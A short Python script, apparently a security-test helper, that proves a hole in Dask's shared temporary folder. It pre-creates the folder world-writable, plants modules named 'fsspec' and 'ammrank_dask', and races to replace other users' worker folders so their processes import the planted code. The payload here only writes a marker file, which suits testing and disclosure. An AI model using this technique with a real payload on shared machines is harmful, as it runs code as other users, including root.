"""Be another account of this machine that makes Dask's folder for temporary files first; run as a program by root.

Every process that imports from there first runs the package planted there, which leaves a file as whoever ran it.
"""

import contextlib
import os
import sys
import time
from pathlib import Path

from second_account import NOBODY

NAMES = ("ammrank_dask", "fsspec")
"""What a worker process imports first, and what a command imports only after it has started its cluster."""


def plant(folder, marker):
    """Put the package into a folder, under the names of others."""
    for name in NAMES:
        (folder / f"{name}.py").write_text(f"import os\nopen({marker!r} + f'-{{os.getpid()}}', 'w').close()\n")


def main(temporary, marker):
    """Make the folder, then replace every folder of a worker that appears in it."""
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    os.umask(0)
    shared = Path(temporary) / "dask-scratch-space"
    shared.mkdir(mode=0o777)
    plant(shared, marker)
    print("planted", flush=True)
    while True:
        for folder in [*shared.glob("worker-*"), *shared.glob("scheduler-*")]:
            with contextlib.suppress(OSError):
                if folder.is_dir() and folder.stat().st_uid != NOBODY and folder.suffix == "":
                    folder.rename(f"{folder}.moved")
                    folder.mkdir(mode=0o777)
                    plant(folder, marker)
        time.sleep(0.001)


if __name__ == "__main__":
    main(*sys.argv[1:])
